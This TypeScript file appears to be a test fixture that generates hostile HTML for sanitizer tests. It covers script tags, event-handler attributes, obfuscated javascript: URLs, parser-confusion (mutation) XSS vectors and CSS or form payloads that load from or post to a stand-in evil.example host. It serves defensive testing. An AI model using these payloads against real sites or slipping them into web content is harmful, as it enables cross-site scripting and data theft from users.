/** What is not to run; the tests look for it in what is left. */
const RUN = 'alert(1)'

/** Elements that run something, or fetch it, by themselves. */
const ELEMENTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<img src="x" onerror="${RUN}">`,
  `<img src="https://evil.example/pixel.gif" width="1" height="1">`,
  `<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">`,
  `<picture><source srcset="https://evil.example/a"><img src="data:,"></picture>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<applet code="x"></applet>`,
  `<video src="https://evil.example/v" autoplay onloadstart="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<body background="https://evil.example/b.gif">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="prefetch" href="https://evil.example/x">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<form action="https://evil.example/"><input name="password" autofocus onfocus="${RUN}"></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<dialog open onclose="${RUN}">x</dialog>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml version="1.0"?><?import namespace="x" implementation="https://evil.example"?>`,
  `<table background="https://evil.example/t"><tr><td background="javascript:${RUN}">x</td></tr></table>`,
]

/** Addresses that run something, behind what programs overlook. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#x0A;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://example.com/%0A${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `file:///etc/passwd`,
  `blob:https://portal.example/x`,
  `//evil.example/x`,
  `/bp/demo/admin`,
  `livescript:${RUN}`,
]

/** Attributes with which any element does something, or covers what is not its own. */
const ATTRIBUTES: readonly string[] = [
  `onclick="${RUN}"`,
  `ONCLICK='${RUN}'`,
  `onmouseover=${RUN}`,
  `onfocus="${RUN}" tabindex="0" autofocus`,
  `onpointerenter="${RUN}"`,
  `onanimationstart="${RUN}" style="animation-name:x"`,
  `style="background:url(https://evil.example/x)"`,
  `style="background-image:url('https://evil.example/x')"`,
  `style="position:fixed;inset:0;z-index:9999"`,
  `style="width:expression(${RUN})"`,
  `style="-moz-binding:url(https://evil.example/x)"`,
  `style="color:red;behavior:url(x.htc)"`,
  `style="color:url(https://evil.example/x)"`,
  `style="\\62 ackground:url(https://evil.example/x)"`,
  `style="font-family:x;}*{background:url(https://evil.example)}"`,
  `class="MuiDialog-root"`,
  `id="root"`,
  `name="getElementById"`,
  `is="x-evil" slot="x"`,
  `contenteditable="true" oninput="${RUN}"`,
  `background="https://evil.example/x"`,
  `ping="https://evil.example/x"`,
  `srcdoc="<script>${RUN}</script>"`,
  `/onclick=${RUN}/`,
  `"onclick="${RUN}`,
]

/** What stands around an attack so that it is read differently the second time. */
const WRAPS: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<p>${inner}</p>`,
  (inner) => `<table><tr><td>${inner}</table>`,
  (inner) => `<blockquote>${inner}`,
  (inner) => `<b><i>${inner}</b></i>`,
  (inner) => `<a href="https://good.example/">${inner}</a>`,
  (inner) => `<pre>\n${inner}</pre>`,
  (inner) => inner.replaceAll('<', '<\u0000').replaceAll('<\u0000', '<'),
  (inner) => inner.toUpperCase(),
  (inner) => `${inner.slice(0, -1)}`,
  (inner) => `<<${inner.slice(1)}`,
  (inner) => inner.replaceAll('>', ' x="1">'),
]

/** Hostile HTML of every kind, as it is. */
function listKernels(): readonly string[] {
  return [
    ...ELEMENTS,
    ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
    ...ADDRESSES.map((address) => `<a href='${address}' target=_self>x</a>`),
    ...ATTRIBUTES.map((attribute) => `<p ${attribute}>x</p>`),
    ...ATTRIBUTES.map((attribute) => `<a href="https://good.example/" ${attribute}>x</a>`),
  ]
}

/** Hostile HTML of every kind in every wrapping; `wraps`: in so many of them alone. */
export function listHostileHtml(wraps = WRAPS.length): readonly string[] {
  return listKernels().flatMap((kernel) => WRAPS.slice(0, wraps).map((wrap) => `Guten Tag ${wrap(kernel)}`))
}
